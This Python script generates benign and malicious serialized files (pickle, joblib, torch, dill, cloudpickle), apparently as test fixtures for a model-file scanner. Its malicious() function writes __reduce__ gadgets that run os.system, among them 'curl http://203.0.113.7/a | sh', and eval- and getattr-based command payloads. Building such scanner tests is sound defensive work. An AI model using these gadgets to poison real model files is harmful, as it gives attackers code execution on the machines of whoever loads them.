"""Makes the small real files beside this script. Run with Debian's python3 (3.11) and its packages: python3 make.py

benign/ holds what honest tools write, each family the scanner must call clean. malicious/ holds code in the same wrappings;
nothing in it is run while it is made.
"""
import array, base64, collections, datetime, decimal, enum, fractions, functools, io, ipaddress, os, pathlib, pickle, random, types, uuid, zoneinfo

import argparse, cloudpickle, dill, joblib, numpy as np, pandas as pd, scipy.sparse, scipy.stats, torch
from sklearn.cluster import KMeans
from sklearn.compose import ColumnTransformer
from sklearn.decomposition import PCA
from sklearn.ensemble import AdaBoostClassifier, GradientBoostingClassifier, HistGradientBoostingClassifier, IsolationForest, RandomForestClassifier
from sklearn.feature_extraction.text import CountVectorizer, TfidfVectorizer
from sklearn.gaussian_process import GaussianProcessRegressor
from sklearn.impute import SimpleImputer
from sklearn.linear_model import LogisticRegression, Ridge, SGDClassifier
from sklearn.model_selection import GridSearchCV
from sklearn.naive_bayes import GaussianNB
from sklearn.neighbors import KNeighborsClassifier
from sklearn.neural_network import MLPClassifier
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import LabelEncoder, OneHotEncoder, StandardScaler
from sklearn.svm import SVC
from sklearn.tree import DecisionTreeClassifier

random.seed(1)
np.random.seed(1)
torch.manual_seed(1)
X = np.random.rand(24, 3)
Y = (X[:, 0] > 0.5).astype(int)


def write(folder, name, data):
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, name), "wb") as file:
        file.write(data)


def torch_bytes(obj, **options):
    buffer = io.BytesIO()
    torch.save(obj, buffer, **options)
    return buffer.getvalue()


def joblib_bytes(obj, **options):
    buffer = io.BytesIO()
    joblib.dump(obj, buffer, **options)
    return buffer.getvalue()


def standard():
    values = {
        "collections": [collections.OrderedDict(a=1), collections.Counter("aab"), collections.deque([1, 2], 5), collections.defaultdict(list, a=[1]), collections.ChainMap({"a": 1})],
        "datetime": [datetime.datetime(2026, 1, 2, 3, 4, tzinfo=datetime.timezone.utc), datetime.date(2026, 1, 2), datetime.timedelta(3), datetime.time(1, 2), zoneinfo.ZoneInfo("UTC")],
        "numbers": [decimal.Decimal("1.5"), fractions.Fraction(1, 3), 1 << 100, -1, 1.5, complex(1, 2), True, None],
        "ids": [uuid.UUID(int=5), ipaddress.ip_address("127.0.0.1"), pathlib.PurePosixPath("a/b"), pathlib.PosixPath("/tmp/x")],
        "builtins": [range(3), slice(1, 2), b"x", bytearray(b"y"), {1, 2}, frozenset([3]), array.array("f", [1.0, 2.0])],
        "namespaces": [argparse.Namespace(lr=0.1, name="a"), types.SimpleNamespace(a=1), functools.partial(np.mean, axis=0)],
        "exceptions": [ValueError("x"), KeyError("y"), OSError(2, "no")],
    }
    for name, value in values.items():
        for protocol in (0, 2, 4, 5):
            write("benign", f"{name}.{protocol}.pkl", pickle.dumps(value, protocol))


def arrays():
    values = {
        "numpy": [np.arange(6.0).reshape(2, 3), np.float32(1), np.array(["a", "b"]), np.array([1, None], dtype=object), np.datetime64("2026-01-01"), np.ma.masked_array([1, 2], [0, 1]), np.random.RandomState(1), np.random.default_rng(1), np.dtype([("a", "f4"), ("b", "i4")])],
        "scipy": [scipy.sparse.csr_matrix(np.eye(3)), scipy.sparse.coo_matrix(np.eye(2)), scipy.sparse.csc_matrix(np.eye(2)), scipy.stats.norm(0, 1)],
        "pandas": [pd.DataFrame({"a": [1, 2], "b": ["x", "y"], "c": pd.Categorical(["u", "v"]), "d": pd.date_range("2026", periods=2, tz="UTC")}), pd.Series([1.5, 2]), pd.Index(["a"]), pd.MultiIndex.from_tuples([(1, 2)]), pd.Timestamp("2026"), pd.Timedelta(1), pd.Period("2026")],
    }
    for name, value in values.items():
        for protocol in (2, 4, 5):
            write("benign", f"{name}.{protocol}.pkl", pickle.dumps(value, protocol))


def estimators():
    models = {
        "forest": RandomForestClassifier(2, max_depth=2, random_state=1).fit(X, Y),
        "boosting": GradientBoostingClassifier(n_estimators=2, max_depth=1, random_state=1).fit(X, Y),
        "histogram": HistGradientBoostingClassifier(max_iter=2, max_depth=2, random_state=1).fit(X, Y),
        "ada": AdaBoostClassifier(n_estimators=2, random_state=1).fit(X, Y),
        "isolation": IsolationForest(n_estimators=2, max_samples=8, random_state=1).fit(X),
        "linear": [LogisticRegression().fit(X, Y), Ridge().fit(X, Y), SGDClassifier(random_state=1).fit(X, Y)],
        "others": [SVC(probability=True, random_state=1).fit(X, Y), KNeighborsClassifier(2).fit(X, Y), GaussianNB().fit(X, Y), KMeans(2, n_init=1, random_state=1).fit(X), PCA(2).fit(X), DecisionTreeClassifier(max_depth=2).fit(X, Y), GaussianProcessRegressor().fit(X[:4], Y[:4])],
        "mlp": MLPClassifier((3,), max_iter=2, random_state=1).fit(X, Y),
        "text": [CountVectorizer().fit(["a bc", "de fg"]), TfidfVectorizer().fit(["a bc", "de fg"]), LabelEncoder().fit(["a", "b"]), OneHotEncoder().fit([["a"], ["b"]])],
        "pipeline": make_pipeline(ColumnTransformer([("n", make_pipeline(SimpleImputer(), StandardScaler()), [0, 1])], remainder="passthrough"), GridSearchCV(LogisticRegression(), {"C": [1, 2]}, cv=2)).fit(X, Y),
    }
    for name, model in models.items():
        write("benign", f"sklearn-{name}.pkl", pickle.dumps(model, 2 if name in ("ada", "text") else 4))
        write("benign", f"sklearn-{name}.joblib", joblib_bytes(model))
    write("benign", "objects.joblib", joblib_bytes({"o": np.array([{"a": 1}, "b", None], dtype=object), "f": np.asfortranarray(X), "e": np.zeros(0), "s": np.array(["ab", "c"]), "v": np.zeros(2, [("a", "f4")])}))


class Half(enum.Enum):
    ONE = 1


def checkpoints():
    net = torch.nn.Sequential(torch.nn.Conv2d(1, 2, 3), torch.nn.BatchNorm2d(2), torch.nn.ReLU(), torch.nn.Flatten(), torch.nn.Linear(2, 2))
    recurrent = torch.nn.LSTM(2, 2)
    optimizer = torch.optim.Adam(net.parameters())
    net(torch.rand(2, 1, 3, 3)).sum().backward()
    optimizer.step()
    tensors = [torch.ones(2, dtype=getattr(torch, kind)) for kind in "float16 bfloat16 float64 int8 uint8 int64 bool complex64".split()] + [torch.eye(2).to_sparse(), torch.nn.Parameter(torch.ones(1))]
    for name, value in {"state": net.state_dict(), "module": net, "lstm": recurrent, "training": {"model": net.state_dict(), "optimizer": optimizer.state_dict(), "epoch": 3, "args": argparse.Namespace(lr=0.1)}, "tensors": tensors}.items():
        write("benign", f"torch-{name}.pt", torch_bytes(value))
        write("benign", f"torch-{name}.legacy.pt", torch_bytes(value, _use_new_zipfile_serialization=False))
    write("benign", "torch-plain.pkl", pickle.dumps({"w": torch.ones(3)}))
    write("benign", "torch.joblib", joblib_bytes({"w": torch.ones(3), "n": np.ones(3)}))


def wrappings():
    write("benign", "plain.dill", dill.dumps({"a": [1, 2], "w": np.ones(3)}))
    write("benign", "plain.cloudpickle.pkl", cloudpickle.dumps({"a": [1, 2], "m": LogisticRegression().fit(X, Y)}))
    write("benign", "rows.pkl", b"".join(pickle.dumps(i) for i in range(3)))


class Call:
    def __init__(self, function, *arguments):
        self.function, self.arguments = function, arguments

    def __reduce__(self):
        return self.function, self.arguments


def malicious():
    call = Call(os.system, "curl http://203.0.113.7/a | sh")
    write("malicious", "system.joblib", joblib_bytes({"x": np.ones(2), "y": call}))
    write("malicious", "objects.joblib", joblib_bytes(np.array([1, call], dtype=object)))
    write("malicious", "system.pt", torch_bytes({"w": torch.ones(2), "y": call}))
    write("malicious", "system.legacy.pt", torch_bytes({"w": torch.ones(2), "y": call}, _use_new_zipfile_serialization=False))
    write("malicious", "lambda.cloudpickle.pkl", cloudpickle.dumps(lambda: os.system("id")))
    write("malicious", "lambda.dill", dill.dumps(lambda: os.system("id")))
    write("malicious", "class.cloudpickle.pkl", cloudpickle.dumps(Half))
    inner = torch_bytes({"y": call}, _use_new_zipfile_serialization=False)
    write("malicious", "nested.pkl", pickle.dumps(Call(torch.storage._load_from_bytes, inner)))
    write("malicious", "estimator.pkl", pickle.dumps(make_pipeline(StandardScaler()).set_params(steps=[("a", call)])))
    write("malicious", "eval.5.pkl", pickle.dumps(Call(eval, "__import__('os').system('id')"), 5))
    write("malicious", "getattr.pkl", pickle.dumps(Call(getattr, Call(__import__, "os"), "system")))


Half.__module__ = "__main__"
standard()
arrays()
estimators()
checkpoints()
wrappings()
malicious()
for folder in ("benign", "malicious"):
    for name in os.listdir(folder):
        if os.path.getsize(os.path.join(folder, name)) > 20_000:
            os.remove(os.path.join(folder, name))
